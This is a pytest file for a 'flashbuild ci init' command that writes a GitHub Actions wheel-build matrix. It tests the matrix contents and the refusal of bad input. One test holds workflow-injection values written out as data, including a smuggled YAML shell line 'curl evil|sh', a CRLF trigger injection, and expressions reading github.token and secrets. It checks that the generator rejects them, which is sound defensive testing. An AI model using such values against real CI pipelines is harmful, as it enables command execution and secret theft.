"""`flashbuild ci init`: the matrix it writes, and the bad input it refuses (one paragraph,
no file written). The workflow text is read back with a small parser of the matrix lines the
renderer writes (flow mappings of JSON strings), so no YAML library is needed here."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bench.ci_leg import matrix
from flashbuild.arch import parse_arch_spec
from flashbuild.ci import workflow
from flashbuild.ci.command import default_flashbuild_spec, run_ci_init
from flashbuild.cli import app
from flashbuild.errors import RecipeError, UsageError
from flashbuild.runner import Completed
from tests.conftest import FIXTURES

SETUP = """from setuptools import setup
from torch.utils.cpp_extension import BuildExtension, CUDAExtension
setup(name="tiny", ext_modules=[CUDAExtension("tiny._C", ["k.cu"])],
      cmdclass={"build_ext": BuildExtension})
"""
RECIPE = """[recipe]
name = "tiny"
[build]
backend = "setuptools"
[install]
package = "tiny"
package_dir = "tiny"
"""


def _tree(tmp_path: Path, recipe: str = RECIPE) -> Path:
    tree = tmp_path / "tiny-tree"
    (tree / "tiny").mkdir(parents=True)
    (tree / "setup.py").write_text(SETUP, encoding="utf-8")
    (tree / "tiny" / "__init__.py").write_text("", encoding="utf-8")
    (tree / "tiny.toml").write_text(recipe, encoding="utf-8")
    return tree


#: Where the jobs get flashbuild (the default needs a git checkout of flashbuild with a remote).
SPEC = ["--flashbuild-spec", "flashbuild @ git+https://example.invalid/fb@" + "0" * 40]


def _init(tree: Path, **options: object) -> Path:
    args: dict[str, object] = {
        "recipe": str(tree / "tiny.toml"), "arch": "90a;120", "platform": "linux,windows",
        "cuda": "12.9,13.0", "python": "3.11,3.12,3.13", "runners": [], "source": tree,
        "output": None, "force": False,
        "flashbuild_spec": SPEC[1],
        "torch": None,
        "as_json": False}
    args.update(options)
    run_ci_init(**args)  # type: ignore[arg-type]
    return tree / ".github" / "workflows" / "flashbuild.yml"


def env_value(text: str, name: str) -> str:
    found = re.search(rf"^  {name}: (\".*\")$", text, re.MULTILINE)
    assert found, name
    return str(json.loads(found[1]))


def test_matrix_covers_every_coordinate_with_its_toolkit_and_torch(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    text = _init(tree).read_text(encoding="utf-8")
    entries = matrix(text)
    coords = {(e["platform"], e["cuda"], e["python"]) for e in entries}
    assert coords == {(p, c, y) for p in ("linux", "windows") for c in ("12.9", "13.0")
                      for y in ("3.11", "3.12", "3.13")}
    assert len(entries) == 12
    for e in entries:
        assert e["runner"] == {"linux": "ubuntu-24.04", "windows": "windows-2022"}[e["platform"]]
        # CUDA 12's PyPI nvcc wheel has no nvcc: the installer; CUDA 13 from PyPI.
        assert (e["toolkit"], e["cuda-version"]) == (
            ("installer", "12.9.1") if e["cuda"] == "12.9" else ("pypi", "13.0.*"))
        assert e["torch-index"].endswith("/cu129" if e["cuda"] == "12.9" else "/cu130")
        if e["toolkit"] == "pypi":
            assert "nvvm" in e["cuda-extras"].split(",")
            assert ("cublas" in e["cuda-extras"]) == (e["platform"] == "windows")
    assert {(e["arch"], e["arch-label"]) for e in entries} == {("sm_90a;sm_120",
                                                                 "sm90a-sm120")}
    assert env_value(text, "FLASHBUILD_RECIPE") == "tiny.toml"  # inside the tree
    assert env_value(text, "FLASHBUILD_PACKAGE") == "tiny"
    assert env_value(text, "TORCH_SPEC") == "torch"
    assert "hashFiles('.github/workflows/flashbuild.yml')" in text
    assert "--cuda 12.9,13.0 --python 3.11,3.12,3.13" in text.splitlines()[6]
    assert "# >>>" not in text and "# <<<" not in text


def test_artifact_names_carry_the_coordinates(tmp_path: Path) -> None:
    plan = workflow.plan_workflow(
        recipe=__import__("flashbuild.recipes.load", fromlist=["x"]).load_recipe(
            str(_tree(tmp_path) / "tiny.toml")),
        recipe_ref="tiny.toml", arch=parse_arch_spec("sm_120+PTX;90a"),
        platforms=("windows",),
        cudas=("13.0",), pythons=("3.12",), runners={"windows": "windows-latest"},
        flashbuild_spec="flashbuild", torch="2.9.1", cache_key_path="x.yml", command="c")
    assert plan.artifacts() == ["wheel-windows-cuda13.0-py3.12-sm90a-sm120ptx"]
    assert plan.torch_spec == "torch==2.9.1"
    text = workflow.render(plan)
    # The template spells the same name from the matrix and ARCH_LABEL.
    assert ("name: wheel-${{ matrix.platform }}-cuda${{ matrix.cuda }}-py${{ matrix.python }}"
            "-${{ env.ARCH_LABEL }}") in text


def test_an_arch_the_cuda_cannot_emit_is_refused(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    with pytest.raises(UsageError) as err:
        _init(tree, arch="sm_121", cuda="12.8,13.0")
    text = str(err.value)
    assert "sm_121" in text and "12.8" in text and "12.9 is the first" in text
    assert not (tree / ".github").exists()


def test_an_arch_the_cuda_removed_is_refused(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    with pytest.raises(UsageError, match=r"CUDA 13\.0 removed sm_70"):
        _init(tree, arch="70;90", cuda="12.9,13.0")
    assert not (tree / ".github").exists()


@pytest.mark.parametrize("runner", ["windows=windows-2019x", "windows=ubuntu-24.04",
                                    "macos=macos-14", "windows"])
def test_an_unknown_runner_label_is_refused(tmp_path: Path, runner: str) -> None:
    tree = _tree(tmp_path)
    with pytest.raises(UsageError) as err:
        _init(tree, runners=[runner])
    assert "windows-2022" in str(err.value)  # the known labels are named
    assert not (tree / ".github").exists()


def test_a_known_runner_label_replaces_the_default(tmp_path: Path) -> None:
    text = _init(_tree(tmp_path), runners=["windows=windows-latest"]).read_text(
        encoding="utf-8")
    assert {e["runner"] for e in matrix(text) if e["platform"] == "windows"} == {
        "windows-latest"}
    assert "--runner windows=windows-latest" in text


def test_a_recipe_without_install_is_refused(tmp_path: Path) -> None:
    tree = _tree(tmp_path, recipe=(FIXTURES / "ci" / "no-install.toml").read_text())
    with pytest.raises(RecipeError, match=r"no \[install\] table"):
        _init(tree)
    assert not (tree / ".github").exists()


def test_an_existing_file_is_replaced_only_with_force(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    out = tree / ".github" / "workflows" / "flashbuild.yml"
    out.parent.mkdir(parents=True)
    out.write_text("mine\n", encoding="utf-8")
    with pytest.raises(UsageError, match="already exists"):
        _init(tree)
    assert out.read_text(encoding="utf-8") == "mine\n"
    _init(tree, force=True)
    assert "flashbuild-wheels" in out.read_text(encoding="utf-8")


def test_a_recipe_outside_the_tree_is_refused(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    outside = tmp_path / "elsewhere.toml"
    shutil.copy(tree / "tiny.toml", outside)
    with pytest.raises(UsageError, match="outside the tree"):
        _init(tree, recipe=str(outside))
    assert not (tree / ".github").exists()


def test_a_bundled_recipe_is_named_not_pathed(tmp_path: Path) -> None:
    tree = tmp_path / "cc"
    (tree / "causal_conv1d").mkdir(parents=True)
    (tree / "setup.py").write_text(SETUP, encoding="utf-8")
    text = _init(tree, recipe="causal-conv1d").read_text(encoding="utf-8")
    assert env_value(text, "FLASHBUILD_RECIPE") == "causal-conv1d"


@pytest.mark.parametrize(("option", "value", "words"), [
    ("python", "3.10", "3.11 or later"),
    ("cuda", "13.9", "can install on a runner"),
    ("cuda", "12", "major.minor"),
    ("platform", "macos", "not a platform"),
    ("arch", "native", "runners have none"),
])
def test_other_bad_input(tmp_path: Path, option: str, value: str, words: str) -> None:
    tree = _tree(tmp_path)
    with pytest.raises(UsageError, match=words):
        _init(tree, **{option: value})
    assert not (tree / ".github").exists()


def test_torch_index_for_a_minor_without_its_own_build() -> None:
    # torch refuses only another CUDA major: 13.2 takes the cu130 build.
    assert workflow.torch_index_for("13.2").endswith("/cu130")
    assert workflow.torch_index_for("12.9").endswith("/cu129")
    with pytest.raises(UsageError, match="no torch build"):
        workflow.torch_index_for("12.4")


def test_a_cmake_tree_installs_no_torch(tmp_path: Path) -> None:
    tree = tmp_path / "cm"
    (tree / "pkg").mkdir(parents=True)
    (tree / "CMakeLists.txt").write_text("project(x)\n", encoding="utf-8")
    (tree / "r.toml").write_text(
        '[recipe]\nname = "cm"\n[[artifact]]\nname = "_x"\nkind = "module"\ntarget = "_x"\n'
        '[install]\npackage = "pkg"\npackage_dir = "pkg"\n', encoding="utf-8")
    text = _init(tree, recipe=str(tree / "r.toml"), arch="90", cuda="12.8,13.0").read_text(
        encoding="utf-8")
    assert env_value(text, "TORCH_SPEC") == ""
    assert {e["torch-index"] for e in matrix(text)} == {""}


def test_the_cli_prints_one_paragraph_and_writes_nothing(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    result = CliRunner().invoke(app, [
        "ci", "init", "--recipe", str(tree / "tiny.toml"), "--source", str(tree),
        "--arch", "sm_103", "--cuda", "12.8", "--json", *SPEC])
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    doc = json.loads(result.stdout)
    assert doc["error"] == "usage" and "sm_103" in doc["what"]
    assert not (tree / ".github").exists()


def test_the_cli_writes_the_workflow(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    out = tmp_path / "review.yml"
    result = CliRunner().invoke(app, [
        "ci", "init", "--recipe", str(tree / "tiny.toml"), "--source", str(tree),
        "--arch", "120", "--platform", "windows", "--cuda", "13.0", "--python", "3.12",
        "-o", str(out), "--json", *SPEC])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert doc["artifacts"] == ["wheel-windows-cuda13.0-py3.12-sm120"]
    # Written outside the tree: the cache key names where it will live in the tree.
    assert "hashFiles('.github/workflows/review.yml')" in out.read_text(
        encoding="utf-8")


@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
def test_the_matrix_is_printed_as_a_table_at_80_columns(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, encoding: str) -> None:
    import io

    from rich.console import Console

    from flashbuild.console import ui

    stream = io.TextIOWrapper(io.BytesIO(), encoding=encoding, errors="flashbuild.degrade")
    monkeypatch.setattr(ui, "out", Console(file=stream, width=80, color_system=None,
                                           emoji=False, highlight=False, soft_wrap=True))
    monkeypatch.setattr(ui, "json_mode", False)  # a CLI test before may have left --json on
    _init(_tree(tmp_path), torch="2.9.1")
    stream.flush()
    lines = stream.buffer.getvalue().decode(encoding).splitlines()  # type: ignore[attr-defined]
    assert lines[0].endswith(" wrote " + str(tmp_path / "tiny-tree" / ".github" / "workflows" /
                                              "flashbuild.yml"))  # a path: kept whole
    assert all(len(line) <= 80 for line in lines[1:]), lines
    assert lines[1] == "12 jobs building wheels, and a release job"
    rows = [[cell.strip() for cell in re.split(r"[│┃|]", line)[1:-1]] for line in lines
            if re.match(r"^[│┃|] \w", line)]
    assert rows[0] == ["os (runner)", "arch", "cuda", "torch", "python", "h:mm"]
    # One CUDA unit, 2 archs: 2 x 532 core-seconds on one of the runner's 4 vCPUs.
    assert rows[1] == ["ubuntu-24.04", "sm_90a sm_120", "12.9 installer", "2.9.1 cu129",
                       "3.11", "0:18"]
    assert rows[-1] == ["windows-2022", "sm_90a sm_120", "13.0 pypi", "2.9.1 cu130", "3.13",
                        "0:18"]
    assert len(rows) == 1 + 12  # one row per job


# --- issue 31 (workflows that run on first contact) and issue 27 (hostile input) -------------

class _Git:
    """Stands in for ProcessRunner: answers `git config remote.origin.url` and `git
    rev-parse`."""

    def __init__(self, url: str, top: Path, commit: str = "a" * 40) -> None:
        self.url, self.top, self.commit = url, top, commit

    def run(self, argv: list[str], **_: object) -> Completed:
        out = self.url if "remote.origin.url" in argv else f"{self.top}\n{self.commit}"
        return Completed(argv=tuple(argv), returncode=0 if out else 128, stdout=out + "\n",
                         stderr="")


def test_the_default_flashbuild_is_this_source_pinned_to_its_commit(tmp_path: Path) -> None:
    # flashbuild==0.1.0 is not on PyPI: the default is the git checkout ci init ran from.
    spec = default_flashbuild_spec(
        tmp_path, _Git("git@github.com:me/flashbuild.git", tmp_path))  # type: ignore[arg-type]
    assert spec == f"flashbuild @ git+https://github.com/me/flashbuild.git@{'a' * 40}"


@pytest.mark.parametrize("url,top", [("", "."), ("https://h/fb.git", "elsewhere")])
def test_without_a_checkout_of_its_own_the_default_is_refused(
        tmp_path: Path, url: str, top: str) -> None:
    # No remote, or a repository that merely holds the venv flashbuild is installed into.
    git = _Git(url, tmp_path if top == "." else tmp_path / top)
    with pytest.raises(UsageError, match="--flashbuild-spec"):
        default_flashbuild_spec(tmp_path, git)  # type: ignore[arg-type]


def test_the_default_never_names_a_version_an_index_lacks(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("flashbuild.ci.command.default_flashbuild_spec",
                        lambda _source: f"flashbuild @ git+https://h/fb@{'b' * 40}")
    text = _init(_tree(tmp_path), flashbuild_spec=None).read_text(encoding="utf-8")
    assert env_value(text, "FLASHBUILD_SPEC") == f"flashbuild @ git+https://h/fb@{'b' * 40}"
    assert "flashbuild==" not in text


@pytest.mark.parametrize("platform,runner,words", [
    ("windows", "windows-2022", "MSVC toolset is 14.44"),
    ("linux", "ubuntu-24.04", "starts at CUDA 12.5"),
])
def test_a_cuda_the_runner_cannot_install_or_build_with_is_refused(
        tmp_path: Path, platform: str, runner: str, words: str) -> None:
    tree = _tree(tmp_path, RECIPE.replace("setuptools", "cmake"))
    (tree / "CMakeLists.txt").write_text("project(t LANGUAGES CUDA)\n", encoding="utf-8")
    with pytest.raises(UsageError, match=words):
        _init(tree, arch="90", cuda="12.4", platform=platform)
    assert not (tree / ".github").exists()


@pytest.mark.parametrize("option,value", [
    ("torch", "2.9.1\ndefaults:\n  run:\n    shell: curl evil|sh #"),
    ("flashbuild_spec", "flashbuild\r\non: push"),
    ("torch", "${{ github.token }}"),
    ("flashbuild_spec", "flashbuild @ git+https://h/${{ secrets.X }}"),
])
def test_no_value_carries_a_newline_or_an_expression(tmp_path: Path, option: str,
                                                      value: str) -> None:
    tree = _tree(tmp_path)
    with pytest.raises(UsageError, match="does not write into a workflow"):
        _init(tree, **{option: value})
    assert not (tree / ".github").exists()


def test_a_recipe_path_with_a_newline_is_refused(tmp_path: Path) -> None:
    tree = _tree(tmp_path)
    odd = tree / "x\ndefaults:.toml"
    shutil.copy(tree / "tiny.toml", odd)
    with pytest.raises(UsageError, match="recipe path"):
        _init(tree, recipe=str(odd))


def test_a_python_torch_has_no_wheels_for_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no torch wheels"):
        _init(_tree(tmp_path), python="3.12,3.99")


def test_a_matrix_over_githubs_256_jobs_is_refused_with_how_to_split(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # 2 platforms x 45 CUDA x 4 Python = 360 jobs (the case); the CUDA list is widened
    # so the size is the only thing wrong.
    many = [f"13.{m}" for m in range(45)]
    monkeypatch.setattr(workflow, "PYPI_CUDA", tuple(many))
    monkeypatch.setattr("flashbuild.ci.workflow.HOST_COMPILERS", {
        (13, m): workflow.HOST_COMPILERS[(13, 0)] for m in range(45)})
    tree = _tree(tmp_path)
    with pytest.raises(UsageError, match=r"360 jobs.*") as info:
        _init(tree, arch="90", cuda=",".join(many), python="3.11,3.12,3.13,3.14")
    assert "256" in str(info.value.evidence) and "split" in str(info.value.fix)
    assert not (tree / ".github").exists()


def test_a_package_that_is_not_an_import_name_is_refused(tmp_path: Path) -> None:
    tree = _tree(tmp_path, RECIPE.replace('package = "tiny"', 'package = "tiny-kernels"'))
    with pytest.raises(RecipeError, match="not an import name"):
        _init(tree)


def test_a_failed_write_leaves_no_temporary_file(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    tree = _tree(tmp_path)

    def refuse(self: Path, target: object) -> Path:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(UsageError, match="cannot write"):
        _init(tree)
    assert list((tree / ".github" / "workflows").iterdir()) == []


def test_pip_caches_are_per_leg_and_actions_are_pinned(tmp_path: Path) -> None:
    text = _init(_tree(tmp_path)).read_text(encoding="utf-8")
    key = re.search(r"^ +key: (.*)$", text, re.MULTILINE)
    assert key
    for part in ("runner.os", "matrix.python", "matrix.cuda", "matrix.torch-index",
                 "github.run_id"):
        assert part in key[1], part
    assert "sccache-action@v0.0.10" in text and 'version: "v0.10.0"' in text
    # torch (which pins cuda-toolkit on Linux) comes before the toolkit, and its pin wins.
    assert text.index("Install flashbuild and torch") < text.index("(PyPI wheels)")
    assert "${pin:-" in text


def test_cuda_126_still_builds_on_the_windows_runner(tmp_path: Path) -> None:
    # 12.6's host_config.h takes _MSC_VER up to 1949: the MSVC check must not refuse it.
    tree = _tree(tmp_path, RECIPE.replace("setuptools", "cmake"))
    (tree / "CMakeLists.txt").write_text("project(t LANGUAGES CUDA)\n", encoding="utf-8")
    text = _init(tree, arch="90", cuda="12.6", platform="windows").read_text(encoding="utf-8")
    assert [e["cuda"] for e in matrix(text)] == ["12.6"] * 3
